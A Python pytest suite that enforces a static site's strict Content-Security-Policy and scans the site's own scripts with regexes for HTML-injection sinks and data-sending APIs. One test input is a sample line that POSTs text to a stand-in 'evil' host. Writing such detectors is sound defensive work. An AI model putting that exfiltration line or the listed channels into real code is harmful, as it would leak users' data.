"""Every page lives under the policy it carries: nothing inline but one known script and one known stylesheet, nothing from elsewhere."""
from __future__ import annotations

import base64
import hashlib
import json
import re

import pytest

SUBRESOURCES = {"script": "src", "img": "src", "iframe": "src", "embed": "src", "object": "data", "source": "src", "video": "src",
                "audio": "src", "track": "src", "input": "src", "use": "href", "image": "href"}
KNOWN_SINKS = {"error-index.js": ["DOMParser"]}     # once, for rows.html of our own build, which no reader's text gets into
POLICY = {
    "default-src": ["'none'"], "img-src": ["'self'"], "connect-src": ["'self'"],
    "worker-src": ["'self'"], "base-uri": ["'none'"], "form-action": ["'none'"],
}


def policy(page):
    """The directives of a page's policy."""
    content = page.one('meta[http-equiv="Content-Security-Policy"]')["content"]
    return {name: values for name, *values in (part.split() for part in content.split(";"))}


def digest(text):
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def code(page):
    """The scripts of a page that a browser runs."""
    return [script for script in page.all("script") if script["type"] in ("", "module", "text/javascript")]


def test_the_policy_is_exactly_this_and_allows_the_style_that_stands_in_the_page(site):
    for address, page in site.pages.items():
        found = policy(page)
        scripts, styles = found.pop("script-src"), found.pop("style-src")
        assert found == POLICY, address
        assert styles == [digest(page.one("style").raw)], address
        assert len(scripts) == 2 and scripts[0] == "'self'" and scripts[1].startswith("'sha256-"), address


def test_a_page_that_only_sends_on_or_is_only_fetched_may_load_nothing(site):
    assert len(site.redirects) > 50
    for page in (site.rows, *site.redirects.values()):
        assert policy(page) == {"default-src": ["'none'"]}, page.one("title").text


def test_the_policy_stands_before_everything_it_governs(site):
    for address, page in site.pages.items():
        order = [element for element in page.one("head").walk()]
        own = order.index(page.one('meta[http-equiv="Content-Security-Policy"]'))
        assert not [element for element in order[:own] if element.tag in ("script", "link", "style", "img")], address


def test_exactly_one_inline_script_whose_hash_the_policy_names(site):
    for address, page in site.pages.items():
        inline = [script for script in code(page) if "src" not in script.attributes]
        assert [digest(script.raw) for script in inline] == policy(page)["script-src"][1:], address


def test_exactly_one_inline_stylesheet_whose_hash_the_policy_names_and_none_to_fetch(site):
    """A file of its own would be a second way over the network before anything is seen."""
    for address, page in site.pages.items():
        sheets = page.all("style")
        assert len(sheets) == 1 and digest(sheets[0].raw) in policy(page)["style-src"], address
        assert sheets[0] in list(page.one("head").walk()) and "</" not in sheets[0].raw, address
        assert not [link for link in page.all("link") if link["rel"] == "stylesheet"], address
    assert not [name for name in site.files if name.endswith(".css")], "nobody asks for it"


def test_every_script_element_is_of_a_known_kind(site, no_findings):
    no_findings([f"{address or '/'}:{script.line} type={script['type']}" for address, page in site.pages.items() for script in page.all("script")
                 if script not in code(page) and script["type"] != "application/ld+json"])


def test_no_element_is_styled_or_scripted_inline(site, no_findings):
    """The whole text counts, so that a comment hides nothing that a change of the theme could let out."""
    findings = []
    for address, page in site.pages.items():
        for element in page.walk():
            findings += [f"{address or '/'}:{element.line} <{element.tag} {name}>" for name, value in element.attributes.items()
                         if name == "style" or name.startswith("on") or re.match(r"\s*(javascript|vbscript):", value, re.IGNORECASE)]
            if element.tag in ("base", "iframe", "object", "embed", "applet", "form"):
                findings.append(f"{address or '/'}:{element.line} <{element.tag}>")
    no_findings(findings)


def test_no_subresource_comes_from_elsewhere(site, no_findings):
    findings = []
    for address, page in site.pages.items():
        for element in page.walk():
            name = "href" if element.tag == "link" and element["rel"] != "canonical" else SUBRESOURCES.get(element.tag)
            value = element[name] if name else ""
            if value and not value.startswith("data:image/") and site.inner(address, value) is None:
                findings.append(f"{address or '/'}:{element.line} <{element.tag} {name}={value}>")
            if element.tag == "link" and element["rel"] in ("preconnect", "dns-prefetch"):
                findings.append(f"{address or '/'}:{element.line} <link rel={element['rel']}>")
    no_findings(findings)


def test_structured_data_parses_and_cannot_end_its_element(site):
    """One script on every page but the 404, behind what people read; no text inside can close it or open a comment."""
    for address, page in site.pages.items():
        scripts = page.all('script[type="application/ld+json"]')
        assert len(scripts) == (address != "404.html") and not page.one("head").all('script[type="application/ld+json"]'), address
        for script in scripts:
            assert json.loads(script.raw)["@context"] == "https://schema.org", address
            assert not re.search(r"[<>&]", script.raw), address


SINKS = re.compile(r"\b(innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval|createContextualFragment|srcdoc|DOMParser|setHTMLUnsafe)\b|new Function\(")
SENDERS = re.compile(r"\b(sendBeacon|XMLHttpRequest|WebSocket|EventSource|RTCPeerConnection|document\.cookie|indexedDB|sessionStorage|serviceWorker)\b"
                     r"|\blocalStorage\b(?!\.theme\b)|(?<![.\w$])(?:self\.|window\.|globalThis\.)?fetch\((?:[^(),]|\([^()]*\))*,(?![\w$,]*\)\{)")       # a request with options could carry something


def found_in_scripts(site, wanted):
    """Name of each script of ours and what is found in it: they are minified, so nothing of it stands in a comment."""
    return [(name.rpartition("/")[2], [match[0] for match in wanted.finditer(site.read(name))]) for name in sorted(site.files) if name.endswith(".js") and "/vendor/" not in name]


def test_scripts_never_make_markup_or_code_from_text(site, no_findings):
    """innerHTML and its kin are how pasted text would become an element; eval is how it would become code."""
    no_findings([f"{name}: {sinks}" for name, sinks in found_in_scripts(site, SINKS) if sinks and sinks != KNOWN_SINKS.get(name)])


def test_scripts_send_and_keep_nothing(site, no_findings):
    """The one thing that stays on the reader's machine is the colour scheme."""
    no_findings([f"{name}: {senders}" for name, senders in found_in_scripts(site, SENDERS) if senders])


@pytest.mark.parametrize("script", ['a\n// b\nfetch("https://evil",{method:"POST",body:text})', "fetch(new URL(text).href,a)", "self.fetch(a,b)", "localStorage.log=text", "localStorage[text]", "const{log}=localStorage", "a.sendBeacon(b)"])
def test_what_sends_or_keeps_is_seen(script):
    assert SENDERS.search(script)


@pytest.mark.parametrize("script", ["fetch(new URL(a,b.href))", "localStorage.theme=a", "prefetch(a,b)", "index.fetch(a,b)"])
def test_what_only_reads_is_let_be(script):
    assert not SENDERS.search(script)
